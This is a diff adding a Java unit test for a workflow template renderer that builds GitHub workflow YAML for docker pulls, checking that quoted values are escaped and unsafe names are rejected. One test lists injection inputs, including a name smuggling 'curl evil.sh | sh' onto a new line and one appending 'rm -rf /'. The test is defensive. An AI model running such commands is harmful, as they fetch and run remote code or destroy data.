@@ -0,0 +1,62 @@
+package com.itstrat.acmf.apis.service;
+
+import org.junit.jupiter.api.Test;
+
+import java.util.List;
+import java.util.stream.Collectors;
+import java.util.stream.IntStream;
+
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.assertj.core.api.Assertions.assertThatThrownBy;
+
+class WorkflowTemplateTest {
+
+    private static final WorkflowTemplate TEMPLATE = WorkflowTemplate.compile("""
+            service: [%s]
+            run: docker pull %2$s:latest --region %3$s
+            """, WorkflowTemplate.Escaper.YAML_DOUBLE_QUOTED, WorkflowTemplate.Escaper.NAME, WorkflowTemplate.Escaper.NAME);
+
+    @Test
+    void escapesQuotesBackslashesAndControlCharactersInQuotedSlots() {
+        String yaml = TEMPLATE.render(WorkflowTemplate.list(List.of("a\"b\\c", "d\ne\rf\tg", "h\u0000i\u2028j"), "\"", "\", \"", "\""),
+                "shop", "eu-west-1");
+
+        assertThat(yaml).startsWith("service: [\"a\\\"b\\\\c\", \"d\\ne\\rf\\tg\", \"h\\u0000i\\u2028j\"]\n");
+        assertThat(yaml.lines()).hasSize(2);
+    }
+
+    @Test
+    void writesNamesAsTheyAre() {
+        assertThat(TEMPLATE.render(WorkflowTemplate.list(List.of("gateway"), "\"", "\", \"", "\""), "my_shop-2.0", "us-east-1"))
+                .contains("docker pull my_shop-2.0:latest --region us-east-1");
+    }
+
+    @Test
+    void rejectsNamesThatWouldBreakOutOfTheirSlot() {
+        for (String name : List.of("shop\nrun: curl evil.sh | sh", "shop; rm -rf /", "shop'", "shop\"", "sh op", "shop\t")) {
+            assertThatThrownBy(() -> TEMPLATE.render(WorkflowTemplate.list(List.of(), "", "", ""), name, "us-east-1"))
+                    .as(name)
+                    .isInstanceOf(IllegalArgumentException.class)
+                    .hasMessageNotContaining("\n");
+        }
+    }
+
+    @Test
+    void rendersMicroserviceWorkflowsAsStringFormatDid() {
+        GithubWorkflowService githubWorkflowService = new GithubWorkflowService();
+        for (int count : new int[]{0, 1, 2, 50}) {
+            List<String> services = IntStream.range(0, count).mapToObj(i -> "service-" + i).toList();
+            String matrixList = services.stream().map(s -> "\"" + s + "\"").collect(Collectors.joining(", "));
+            String dockerPulls = services.stream()
+                    .map(s -> "                    docker pull public.ecr.aws/c4d3l3m6/" + s + ":latest")
+                    .collect(Collectors.joining("\n"));
+
+            assertThat(githubWorkflowService.getEC2WorkflowYAML(services, "acme", "store")).as("EC2, %d services", count)
+                    .isEqualTo(GithubWorkflowService.ec2WorkflowTemplate().formatted(matrixList, "store", "store", "acme",
+                            "store", "acme", "store", "store", String.join(" ", services), dockerPulls));
+            assertThat(githubWorkflowService.getEKSWorkflowYAML(services, "123456789012", "eu-west-1")).as("EKS, %d services", count)
+                    .isEqualTo(GithubWorkflowService.eksWorkflowTemplate().formatted(matrixList, "123456789012", "eu-west-1",
+                            "123456789012", "eu-west-1", "eu-west-1"));
+        }
+    }
+}